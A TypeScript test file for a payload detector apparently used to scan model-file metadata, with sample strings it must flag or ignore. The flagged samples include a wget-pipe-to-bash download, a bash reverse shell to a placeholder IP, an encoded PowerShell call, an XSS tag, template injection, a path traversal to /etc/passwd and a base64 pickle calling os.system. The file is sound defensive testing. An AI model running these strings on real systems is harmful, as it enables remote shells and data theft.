import { describe, expect, it } from 'vitest';
import { findPayload } from '../../../../src/detect/files/payload-text.ts';

const base64 = (text: string): string => Buffer.from(text).toString('base64');

describe('findPayload', () => {
  it.each([
    ["x = __import__('os')", 'python-code'],
    ['subprocess.check_output(["id"])', 'python-code'],
    ['exec(compile(a, b, c))', 'python-code'],
    ['wget -qO- http://192.0.2.1/a | bash', 'shell-command'],
    ['bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', 'shell-command'],
    ['powershell -nop -enc SQBFAFgA', 'shell-command'],
    ['<img src=x onerror=alert(1)>', 'markup'],
    ["{{ ''.__class__.__mro__ }}", 'template-escape'],
    ['../../../etc/passwd', 'system-path'],
    [`payload=${base64('import os; os.system("id") and more')}`, 'encoded-code'],
    [
      base64(
        '\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94',
      ),
      'encoded-code',
    ],
  ])('%j is %s', (text, payload) => {
    expect(findPayload(text)?.payload).toBe(payload);
  });

  it.each([
    'A model that evaluates (eval) code and runs on your system.',
    'os.path and subprocess are Python modules',
    'curl is needed to download this model',
    '<b>bold</b> & <a href="https://example.org">link</a>',
    'trained with accelerate launch train.py --output ../out',
    'https://huggingface.co/a/b/resolve/main/model.safetensors',
    base64('just an ordinary sentence that happens to be encoded'),
    `data:image/png;base64,${Buffer.alloc(3000, 0x5a).toString('base64')}`,
    '{"ss_network_module": "networks.lora", "ss_optimizer": "bitsandbytes.optim.AdamW8bit"}',
    'model.layers.0.self_attn.q_proj.weight',
  ])('%j is nothing', (text) => {
    expect(findPayload(text)).toBeUndefined();
  });

  it('stays quick on text made to be slow', () => {
    for (const piece of ['curl ', '../', '{{', '<img ', 'A', '/dev/tcp/', 'powershell -']) {
      expect(findPayload(piece.repeat(200_000))?.payload ?? 'none').toMatch(/none|system-path/);
    }
  });
});
